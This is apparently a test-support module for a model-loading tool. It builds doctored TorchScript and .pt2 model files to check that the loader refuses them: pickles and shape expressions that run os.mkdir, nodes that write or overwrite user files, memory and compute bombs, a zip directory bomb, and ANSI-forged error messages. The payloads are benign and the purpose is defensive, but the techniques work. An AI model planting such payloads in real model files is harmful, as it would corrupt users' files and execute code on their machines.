"""Model files that try to touch the user's files: TorchScript payloads and doctored .pt2 programs.

Every payload is live: the reliability tests first show that torch's own loader runs it (a file
appears or a victim file is overwritten), then that ``load_model`` refuses it and leaves no trace.
"""

from __future__ import annotations

import io
import json
import os
import pickle
import struct
import subprocess
import sys
import warnings
import zipfile
from dataclasses import dataclass
from pathlib import Path

import torch
from torch import nn

from advviewer.models import export_classifier


class SaveInForward(nn.Module):
    """Writes a file on every call (TorchScript compiles torch.save to aten::save)."""

    def __init__(self, target: str) -> None:
        super().__init__()
        self.target = target
        self.fc = nn.Linear(784, 10)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        torch.save(x, self.target)
        return self.fc(x.flatten(1))


class SaveInSetstate(nn.Module):
    """Writes a file inside torch.jit.load itself, before the caller can inspect anything."""

    def __init__(self, target: str) -> None:
        super().__init__()
        self.target = target
        self.fc = nn.Linear(784, 10)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return self.fc(x.flatten(1))

    @torch.jit.export
    def __getstate__(self) -> tuple[str, bool]:
        return (self.target, self.training)

    @torch.jit.export
    def __setstate__(self, state: tuple[str, bool]) -> None:
        self.target = state[0]
        torch.save(torch.zeros(1), self.target)
        self.training = state[1]


class FromFileOverwrite(nn.Module):
    """Maps an existing file of the user's (shared=True) and overwrites its first bytes."""

    def __init__(self, victim: str) -> None:
        super().__init__()
        self.victim = victim
        self.fc = nn.Linear(784, 10)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        mapped = torch.from_file(self.victim, shared=True, size=8, dtype=torch.uint8)
        mapped.copy_(torch.full([8], 65, dtype=torch.uint8))
        return self.fc(x.flatten(1)) + mapped[0].float() * 0.0  # used, so TorchScript keeps it


def torchscript_file(module: nn.Module, path: Path) -> Path:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # torch.jit is deprecated in torch 2.13
        torch.jit.script(module).save(str(path))
    return path


class CreateFolder:
    """A pickle that creates the folder ``path`` when unpickled: os.mkdir(path) (no file handle left open)."""

    def __init__(self, path: str) -> None:
        self.path = path

    def __reduce__(self):
        return (os.mkdir, (self.path,))


def tiny_pt2(path: Path) -> Path:
    torch.manual_seed(0)
    return export_classifier(nn.Sequential(nn.Flatten(), nn.Linear(784, 10)), path)


def rewrite_pt2(source: Path, target: Path, edit, extra: dict[str, bytes] | None = None, method=None, rename=None) -> Path:
    """Copy a .pt2 archive, letting ``edit(name, data) -> bytes | None`` change (or drop) members.

    ``extra`` adds members (beside the weights: ``data/weights/<name>``); ``method(name)`` picks a
    member's compression (stored by default); ``rename(name)`` changes members' names.
    """
    with zipfile.ZipFile(source) as zin, zipfile.ZipFile(target, "w", zipfile.ZIP_STORED) as zout:
        prefix = next(n for n in zin.namelist() if n.endswith("/archive_format")).split("/")[0]
        members = [(info.filename, edit(info.filename, zin.read(info))) for info in zin.infolist()]
        members += [(f"{prefix}/data/weights/{name}", data) for name, data in (extra or {}).items()]
        for name, data in members:
            if data is not None:
                compression = method(name) if method else zipfile.ZIP_STORED
                zout.writestr(rename(name) if rename else name, data, compress_type=compression)
    return target


def _edit_program(change):
    def edit(name: str, data: bytes) -> bytes:
        if name.endswith("models/model.json"):
            program = json.loads(data)
            change(program)
            return json.dumps(program).encode()
        return data
    return edit


def pt2_calling_from_file(source: Path, target: Path, victim: str) -> Path:
    """Adds aten.from_file(victim, shared=True, size=8) and a copy_ of 'A's into it before the output."""
    def change(program: dict) -> None:
        graph = program["graph_module"]["graph"]
        mapped = {"target": "torch.ops.aten.from_file.default", "metadata": {},
                  "inputs": [{"name": "filename", "arg": {"as_string": victim}, "kind": 1},
                             {"name": "shared", "arg": {"as_bool": True}, "kind": 1},
                             {"name": "size", "arg": {"as_int": 8}, "kind": 1},
                             {"name": "dtype", "arg": {"as_scalar_type": 1}, "kind": 2}],
                  "outputs": [{"as_tensor": {"name": "mapped"}}]}
        fill = {"target": "torch.ops.aten.fill_.Scalar", "metadata": {},
                "inputs": [{"name": "self", "arg": {"as_tensor": {"name": "mapped"}}, "kind": 1},
                           {"name": "value", "arg": {"as_int": 65}, "kind": 1}],
                "outputs": [{"as_tensor": {"name": "filled"}}]}
        graph["nodes"][:0] = [mapped, fill]
        graph["tensor_values"]["mapped"] = graph["tensor_values"]["filled"] = {
            "dtype": 1, "sizes": [{"as_int": 8}], "requires_grad": False, "device": {"type": "cpu", "index": None},
            "strides": [{"as_int": 1}], "storage_offset": {"as_int": 0}, "layout": 7}
    return rewrite_pt2(source, target, _edit_program(change))


def pt2_calling_torch_save(source: Path, target: Path, written: str) -> Path:
    """A node whose target is the Python function torch.save (torch's loader resolves any torch.* name)."""
    def change(program: dict) -> None:
        graph = program["graph_module"]["graph"]
        user_input = graph["inputs"][-1]["as_tensor"]["name"]
        graph["nodes"].insert(0, {"target": "torch.save", "metadata": {},
                                  "inputs": [{"name": "obj", "arg": {"as_tensor": {"name": user_input}}, "kind": 1},
                                             {"name": "f", "arg": {"as_string": written}, "kind": 1}],
                                  "outputs": [{"as_none": True}]})
    return rewrite_pt2(source, target, _edit_program(change))


def pt2_with_pickled_weights(source: Path, target: Path, created: str) -> Path:
    """The first weight stored as a pickle (use_pickle: true) that creates a folder when unpickled."""
    state = {}

    def edit(name: str, data: bytes) -> bytes:
        if name.endswith("data/weights/model_weights_config.json"):
            config = json.loads(data)
            first = next(iter(config["config"].values()))
            first["use_pickle"] = True
            state["path_name"] = first["path_name"]
            return json.dumps(config).encode()
        return data

    rewrite_pt2(source, target, edit)
    payload = io.BytesIO()
    torch.save(CreateFolder(created), payload)
    final = target.with_name(target.stem + "_final.pt2")
    rewrite_pt2(target, final, lambda n, d: payload.getvalue() if n.endswith("data/weights/" + state["path_name"]) else d)
    final.replace(target)
    return target


def pt2_with_pickled_sample_inputs(source: Path, target: Path, created: str) -> Path:
    """Sample inputs (which torch unpickles with weights_only=False when weights_only=True fails) that create a folder."""
    return rewrite_pt2(source, target, lambda n, d: pickle.dumps(CreateFolder(created)) if "sample_inputs" in n else d)


def pt2_with_code_in_a_shape(source: Path, target: Path, created: str) -> Path:
    """A shape expression that is Python code: torch's loader hands it to sympy.sympify, i.e. eval."""
    code = f"__import__('os').mkdir({created!r}) or 1"

    def change(program: dict) -> None:
        program["range_constraints"] = {code: {"min_val": 1, "max_val": 10}}
        for value in program["graph_module"]["graph"]["tensor_values"].values():
            for size in value["sizes"]:
                if "as_expr" in size:
                    size["as_expr"]["expr_str"] = code
    return rewrite_pt2(source, target, _edit_program(change))


# ---- issue 21: programs that exhaust memory or time, crash a kernel, answer wrongly, or forge messages ----
# Each builder takes a genuine archive (tiny_pt2 or batch_norm_pt2) and writes a doctored copy.

def batch_norm_pt2(path: Path) -> Path:
    """A genuine program with a convolution, batch norm, pooling, dropout and a linear layer."""
    torch.manual_seed(0)
    net = nn.Sequential(nn.Conv2d(1, 4, 3), nn.BatchNorm2d(4), nn.ReLU(), nn.MaxPool2d(2), nn.Dropout(0.3),
                        nn.Flatten(), nn.Linear(4 * 13 * 13, 10)).eval()
    return export_classifier(net, path)


def tensor(name: str) -> dict:
    return {"as_tensor": {"name": name}}


def argument(name: str, value: dict, keyword: bool = False) -> dict:
    return {"name": name, "arg": value, "kind": 2 if keyword else 1}


def aten(target: str, inputs: list[dict], outputs: list[str | None]) -> dict:
    return {"target": f"torch.ops.aten.{target}", "metadata": {}, "inputs": inputs,
            "outputs": [tensor(name) if name else {"as_none": True} for name in outputs]}


def factory(name: str, sizes: list[int], op: str = "ones.default") -> dict:
    """``torch.ones(sizes)`` (or another factory of one size argument) as a node defining ``name``."""
    return aten(op, [argument("size", {"as_ints": sizes})], [name])


def user_input_name(program: dict) -> str:
    return next(s["user_input"]["arg"]["as_tensor"]["name"] for s in program["graph_module"]["signature"]["input_specs"]
                if "user_input" in s)


def pt2_with_nodes(source: Path, target: Path, nodes) -> Path:
    """``nodes(input_name) -> list`` appended to the program (they run on every call; the output is unchanged)."""
    def change(program: dict) -> None:
        program["graph_module"]["graph"]["nodes"] += nodes(user_input_name(program))
    return rewrite_pt2(source, target, _edit_program(change))


def pt2_with_node_edit(source: Path, target: Path, op: str, change_inputs) -> Path:
    """The first node calling ``op`` with its input records changed by ``change_inputs(inputs) -> inputs``."""
    def change(program: dict) -> None:
        node = next(n for n in program["graph_module"]["graph"]["nodes"] if n["target"] == f"torch.ops.aten.{op}")
        node["inputs"] = change_inputs(node["inputs"])
    return rewrite_pt2(source, target, _edit_program(change))


def pt2_with_program_edit(source: Path, target: Path, change) -> Path:
    return rewrite_pt2(source, target, _edit_program(change))


def pt2_with_weights_edit(source: Path, target: Path, change, extra: dict[str, bytes] | None = None, method=None) -> Path:
    """``change(config)`` edits the weights' description (model_weights_config.json); ``extra`` adds weight members."""
    def edit(name: str, data: bytes) -> bytes:
        if name.endswith("data/weights/model_weights_config.json"):
            config = json.loads(data)
            change(config["config"])
            return json.dumps(config).encode()
        return data
    return rewrite_pt2(source, target, edit, extra, method)


def _float_meta(sizes: list[int], strides: list[int]) -> dict:
    return {"dtype": 7, "sizes": [{"as_int": n} for n in sizes], "strides": [{"as_int": s} for s in strides],
            "storage_offset": {"as_int": 0}, "layout": 7, "requires_grad": False, "device": {"type": "cpu", "index": None}}


def zero_stride_weight(source: Path, target: Path) -> Path:
    """A 4-byte weight declared 40000x40000 with zero strides: its one value repeated 1.6e9 times (6.4 GB copied)."""
    def change(config: dict) -> None:
        config["huge"] = {"path_name": "huge", "is_param": False, "use_pickle": False, "tensor_meta": _float_meta([40000, 40000], [0, 0])}
    return pt2_with_weights_edit(source, target, change, {"huge": b"\0\0\x80?"})


def repeated_zero_strides(source: Path, target: Path) -> Path:
    """Sizes (2**39,) * 8 with zero strides over 4 bytes: a number of values no tensor can hold."""
    def change(config: dict) -> None:
        config["vast"] = {"path_name": "vast", "is_param": False, "use_pickle": False, "tensor_meta": _float_meta([1 << 39] * 8, [0] * 8)}
    return pt2_with_weights_edit(source, target, change, {"vast": b"\0\0\x80?"})


def one_member_many_weights(source: Path, target: Path, count: int = 12) -> Path:
    """``count`` weights naming one deflated 32 MB member: each read inflates it again (384 MB from a 100 kB file)."""
    def change(config: dict) -> None:
        for i in range(count):
            config[f"again{i}"] = {"path_name": "shared", "is_param": False, "use_pickle": False,
                                   "tensor_meta": _float_meta([8_000_000], [1])}
    return pt2_with_weights_edit(source, target, change, {"shared": bytes(32_000_000)},
                                 method=lambda n: zipfile.ZIP_DEFLATED if n.endswith("/shared") else zipfile.ZIP_STORED)


def compressed_with(compression: int):
    """The program (model.json) compressed with bzip2 or lzma, whose output zipfile does not cap."""
    def doctor(source: Path, target: Path) -> Path:
        return rewrite_pt2(source, target, lambda n, d: d, method=lambda n: compression if n.endswith("model.json") else zipfile.ZIP_STORED)
    return doctor


def unused_factory(outputs: list[dict]):
    """A 20000x20000 float64 ``full`` (3.2 GB) whose result is kept nowhere (``outputs``: [] or [as_none])."""
    def doctor(source: Path, target: Path) -> Path:
        def nodes(x: str) -> list[dict]:
            node = aten("full.default", [argument("size", {"as_ints": [20000, 20000]}), argument("fill_value", {"as_float": 1.0}),
                                         argument("dtype", {"as_scalar_type": 8}, keyword=True)], [])
            node["outputs"] = outputs
            return [node]
        return pt2_with_nodes(source, target, nodes)
    return doctor


def broadcast_matmul(source: Path, target: Path) -> Path:
    """matmul of (200, 1, 1, 20000) by (1, 200, 20000, 1): 16 MB operands and a 160 kB result, but both
    operands are expanded to the broadcast batch and copied (6.4 GB), 1.6 G operations."""
    return pt2_with_nodes(source, target, lambda x: [
        factory("left", [200, 1, 1, 20000]), factory("right", [1, 200, 20000, 1]),
        aten("matmul.default", [argument("self", tensor("left")), argument("other", tensor("right"))], ["product"])])


def pool_with_one_kernel_size(source: Path, target: Path) -> Path:
    """max_pool2d with kernel_size [2000] (a 2000x2000 window) over a 2028x2028 padding of the image: 3.4 G comparisons per image."""
    return pt2_with_nodes(source, target, lambda x: [
        aten("constant_pad_nd.default", [argument("self", tensor(x)), argument("pad", {"as_ints": [1000, 1000, 1000, 1000]})], ["padded"]),
        aten("max_pool2d.default", [argument("self", tensor("padded")), argument("kernel_size", {"as_ints": [2000]}),
                                    argument("stride", {"as_ints": [1]})], ["pooled"])])


def product_by_keyword(source: Path, target: Path) -> Path:
    """mm of 1000x2000 by 2000x1000 (4 G operations) with both matrices passed as keyword arguments."""
    return pt2_with_nodes(source, target, lambda x: [
        factory("a", [1000, 2000]), factory("b", [2000, 1000]),
        aten("mm.default", [argument("self", tensor("a"), keyword=True), argument("mat2", tensor("b"), keyword=True)], ["ab"])])


def transposed_convolution(source: Path, target: Path) -> Path:
    """A transposed convolution whose padding cuts its output to 2x2: 8 G operations on a 4 MB input."""
    return pt2_with_nodes(source, target, lambda x: [
        factory("wide", [1, 256, 64, 64]), factory("kernel", [256, 1, 63, 63]),
        aten("convolution.default", [argument("input", tensor("wide")), argument("weight", tensor("kernel")),
                                     argument("bias", {"as_none": True}), argument("stride", {"as_ints": [1, 1]}),
                                     argument("padding", {"as_ints": [62, 62]}), argument("dilation", {"as_ints": [1, 1]}),
                                     argument("transposed", {"as_bool": True}), argument("output_padding", {"as_ints": [0, 0]}),
                                     argument("groups", {"as_int": 1})], ["spread"])])


def transposed_convolution_by_name(source: Path, target: Path) -> Path:
    """The same spread as :func:`transposed_convolution`, written as conv_transpose2d."""
    return pt2_with_nodes(source, target, lambda x: [
        factory("wide", [1, 256, 64, 64]), factory("kernel", [256, 1, 63, 63]),
        aten("conv_transpose2d.input", [argument("input", tensor("wide")), argument("weight", tensor("kernel")),
                                        argument("padding", {"as_ints": [62, 62]}, keyword=True)], ["spread"])])


def short_norm_parameters(length: int, op: str = "_native_batch_norm_legit_no_training.default"):
    """Batch norm (or group norm) of the 4-channel convolution output with parameters of ``length`` values:
    0 crashes the kernel, 1 makes it read past them into the heap."""
    def doctor(source: Path, target: Path) -> Path:
        def nodes(x: str) -> list[dict]:
            params = [factory(f"p{i}", [length]) for i in range(4)]
            if op.startswith("native_group_norm"):
                inputs = [argument("input", tensor("conv2d")), argument("weight", tensor("p0")), argument("bias", tensor("p1")),
                          argument("N", {"as_int": 1}), argument("C", {"as_int": 4}), argument("HxW", {"as_int": 676}),
                          argument("group", {"as_int": 2}), argument("eps", {"as_float": 1e-5})]
            else:
                inputs = [argument("input", tensor("conv2d"))] + [argument(n, tensor(f"p{i}")) for i, n in
                                                                  enumerate(("weight", "bias", "running_mean", "running_var"))]
                inputs += [argument("momentum", {"as_float": 0.1}), argument("eps", {"as_float": 1e-5})]
            return [*params, {"target": f"torch.ops.aten.{op}", "metadata": {}, "inputs": inputs,
                              "outputs": [tensor("normed"), tensor("mean"), tensor("rstd")]}]
        return pt2_with_nodes(source, target, nodes)
    return doctor


def batch_norm_training_by_keyword(source: Path, target: Path) -> Path:
    """batch_norm with training=True passed by keyword, a false cudnn_enabled in the sixth place."""
    def change(inputs: list[dict]) -> list[dict]:
        named = {i["name"]: i["arg"] for i in inputs}
        return inputs[:5] + [argument("cudnn_enabled", {"as_bool": False}, keyword=True), argument("training", {"as_bool": True}, keyword=True),
                             argument("momentum", named["momentum"], keyword=True), argument("eps", named["eps"], keyword=True)]
    return pt2_with_node_edit(source, target, "batch_norm.default", change)


def dropout_train_twice(source: Path, target: Path) -> Path:
    """dropout with train given twice by keyword, false then true (a dict keeps the later)."""
    def change(inputs: list[dict]) -> list[dict]:
        return inputs[:2] + [argument("train", {"as_bool": False}, keyword=True), argument("train", {"as_bool": True}, keyword=True)]
    return pt2_with_node_edit(source, target, "dropout.default", change)


def forged_folder_name(source: Path, target: Path) -> Path:
    """The archive's folder named with a newline and ANSI escapes (a forged second line in red), its program missing."""
    forged = "m\n\x1b[31mERROR: your files were deleted\x1b[0m"

    def rename(name: str) -> str:
        return forged + name[name.index("/"):]
    return rewrite_pt2(source, target, lambda n, d: None if n.endswith("model.json") else d, rename=rename)


# ---- a hostile file is opened in a child process under memory and time limits ----

CHILD_MEMORY = 2 << 30  # address space (RLIMIT_AS): torch itself maps about 0.7 GB
CHILD_SECONDS = 120

_CHILD = """
import json, resource, sys
resource.setrlimit(resource.RLIMIT_AS, (int(sys.argv[3]), int(sys.argv[3])))
sys.path.insert(0, sys.argv[4])
import torch
torch.set_num_threads(1)
from advviewer import load_model
from advviewer.errors import AdvViewerError
try:
    model = load_model(sys.argv[1])
    x = torch.rand(int(sys.argv[2]), 1, 28, 28, generator=torch.Generator().manual_seed(0))
    with torch.no_grad():
        batch = model(x)
        alone = torch.cat([model(x[i:i + 1]) for i in range(min(len(x), 3))])
    result = {"shape": list(batch.shape), "alone_agrees": bool(torch.allclose(batch[:len(alone)], alone, rtol=1e-4, atol=1e-4))}
except AdvViewerError as exc:
    result = {"refused": str(exc)}
# VmHWM, not getrusage's ru_maxrss: that survives exec, so a child of a big test process reports the parent's peak
result["peak_mb"] = next(int(line.split()[1]) for line in open("/proc/self/status") if line.startswith("VmHWM:")) / 1024
print("RESULT " + json.dumps(result))
"""


@dataclass
class ChildOutcome:
    """What opening a model file in a limited child process gave: its exit status, its result, its errors."""

    returncode: int
    result: dict | None
    stderr: str

    @property
    def refusal(self) -> str | None:
        return self.result.get("refused") if self.result else None


def open_in_child(path: Path, batch: int = 98, memory: int = CHILD_MEMORY, seconds: int = CHILD_SECONDS) -> ChildOutcome:
    """``load_model(path)`` then a call on ``batch`` images, in a child limited to ``memory`` bytes and ``seconds``.

    A crash, a traceback, running out of memory or time is a failed outcome (no result), never the test machine's problem.
    """
    env = dict(os.environ, MALLOC_ARENA_MAX="2", OMP_NUM_THREADS="1")
    root = str(Path(__file__).resolve().parent.parent)
    try:
        done = subprocess.run([sys.executable, "-c", _CHILD, str(path), str(batch), str(memory), root], cwd=root, env=env,
                              capture_output=True, text=True, timeout=seconds)
    except subprocess.TimeoutExpired:
        return ChildOutcome(-1, None, f"still running after {seconds} s")
    lines = [line for line in done.stdout.splitlines() if line.startswith("RESULT ")]
    return ChildOutcome(done.returncode, json.loads(lines[-1][7:]) if lines else None, done.stderr[-2000:])


def sizes_squared(source: Path, target: Path, times: int = 64) -> Path:
    """The batch size squared ``times`` times (_operator.mul): a number of 2**64 digits if nothing stops it."""
    def nodes(x: str) -> list[dict]:
        out = [{"target": "torch.ops.aten.sym_size.int", "metadata": {}, "inputs": [argument("self", tensor(x)), argument("dim", {"as_int": 0})],
                "outputs": [{"as_sym_int": {"as_name": "s0"}}]}]
        for i in range(times):
            out.append({"target": "_operator.mul", "metadata": {},
                        "inputs": [argument("a", {"as_sym_int": {"as_name": f"s{i}"}}), argument("b", {"as_sym_int": {"as_name": f"s{i}"}})],
                        "outputs": [{"as_sym_int": {"as_name": f"s{i + 1}"}}]})
        return out
    return pt2_with_nodes(source, target, nodes)


def text_argument(text):
    """pad's mode given as ``text``: a forged line with ANSI escapes (torch's error would echo it), or a list."""
    def doctor(source: Path, target: Path) -> Path:
        return pt2_with_nodes(source, target, lambda x: [
            aten("pad.default", [argument("self", tensor(x)), argument("pad", {"as_ints": [1, 1]}),
                                 argument("mode", {"as_string": text})], ["padded"])])
    return doctor


# ---- a seeded structural fuzz of a genuine program: every mutant loads or is refused in one line ----

_ODD_VALUES = [[], {}, "x\n\x1b[31m", 0, -1, 1 << 40, 1.5, True, None, {"as_int": 5}, {"as_tensor": {"name": "input"}},
               {"name": "linear"}, {"as_ints": [0, 0]}, {"as_bool": True}, {"as_float": 1e308}, [{"as_int": 1 << 39}] * 8]


def _paths(value, path=()):
    """Every (container path, key) in a JSON tree."""
    items = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    for key, child in items:
        yield (*path, key)
        yield from _paths(child, (*path, key))


def _at(tree, path):
    for key in path:
        tree = tree[key]
    return tree


def mutate_program(program: dict, rng, operators: list[str]) -> dict:
    """One random change: a field of another type, an argument dropped, doubled or made a keyword, nodes swapped,
    or a node's operator replaced by another allow-listed one."""
    program = json.loads(json.dumps(program))
    nodes = program["graph_module"]["graph"]["nodes"]
    choice = rng.randrange(5)
    node = rng.choice(nodes)
    if choice == 0:
        paths = list(_paths(program["graph_module"]["graph"]["nodes"], ("graph_module", "graph", "nodes")))
        paths += list(_paths(program["graph_module"]["signature"], ("graph_module", "signature")))
        path = rng.choice(paths)
        _at(program, path[:-1])[path[-1]] = rng.choice(_ODD_VALUES)
    elif choice == 1 and node["inputs"]:
        record = rng.choice(node["inputs"])
        rng.choice([lambda: node["inputs"].remove(record), lambda: node["inputs"].append(dict(record)),
                    lambda: record.update(kind=2), lambda: node["inputs"].append(dict(record, kind=2))])()
    elif choice == 2:
        i, j = rng.randrange(len(nodes)), rng.randrange(len(nodes))
        nodes[i], nodes[j] = nodes[j], nodes[i]
    else:
        node["target"] = "torch.ops.aten." + rng.choice(operators)
    return program


_FUZZ_CHILD = """
import json, resource, sys, traceback
resource.setrlimit(resource.RLIMIT_AS, (int(sys.argv[2]), int(sys.argv[2])))
sys.path.insert(0, sys.argv[3])
import torch
torch.set_num_threads(1)
from advviewer import load_model
from advviewer.errors import AdvViewerError
outcomes = []
for path in open(sys.argv[1]).read().split():
    try:
        load_model(path)
        outcomes.append("loaded")
    except AdvViewerError as exc:
        outcomes.append("refused" if "\\n" not in str(exc) and "\\x1b" not in str(exc) else "refused on several lines: " + repr(str(exc)))
    except BaseException as exc:
        outcomes.append(path + ": " + "".join(traceback.format_exception_only(exc)).strip()[-300:])
print("RESULT " + json.dumps(outcomes))
"""


def open_all_in_child(paths: list[Path], memory: int = CHILD_MEMORY, seconds: int = 600) -> ChildOutcome:
    """``load_model`` on each of ``paths`` in one limited child: "loaded", "refused", or what went wrong, in order."""
    listing = paths[0].parent / "fuzz_paths.txt"
    listing.write_text("\n".join(str(p) for p in paths))
    env = dict(os.environ, MALLOC_ARENA_MAX="2", OMP_NUM_THREADS="1")
    root = str(Path(__file__).resolve().parent.parent)
    try:
        done = subprocess.run([sys.executable, "-c", _FUZZ_CHILD, str(listing), str(memory), root], cwd=root, env=env,
                              capture_output=True, text=True, timeout=seconds)
    except subprocess.TimeoutExpired:
        return ChildOutcome(-1, None, f"still running after {seconds} s")
    lines = [line for line in done.stdout.splitlines() if line.startswith("RESULT ")]
    return ChildOutcome(done.returncode, {"outcomes": json.loads(lines[-1][7:])} if lines else None, done.stderr[-2000:])


def central_directory_bomb(path: Path, entries: int = 3_000_000, zip64: bool = False) -> Path:
    """A zip of one empty member and ``entries`` directory entries naming it (141 MB): zipfile would build an
    object for each (about 1.4 GB and 15 s) before anyone could count them. ``zip64``: the plain end record
    says the directory is empty, the zip64 record (which zipfile believes) gives its real size."""
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 0, 0, 0, 0, 0, 0, 1, 0) + b"a"
    entry = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 0, 0, 0, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0) + b"a"
    directory = entry * entries
    tail = b""
    if zip64:
        record_at = len(local) + len(directory)
        tail = struct.pack("<IQHHIIQQQQ", 0x06064B50, 44, 45, 45, 0, 0, entries, entries, len(directory), len(local))
        tail += struct.pack("<IIQI", 0x07064B50, 0, record_at, 1)
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 0xFFFF, 0xFFFF, 0 if zip64 else len(directory), len(local), 0)
    path.write_bytes(local + directory + tail + end)
    return path
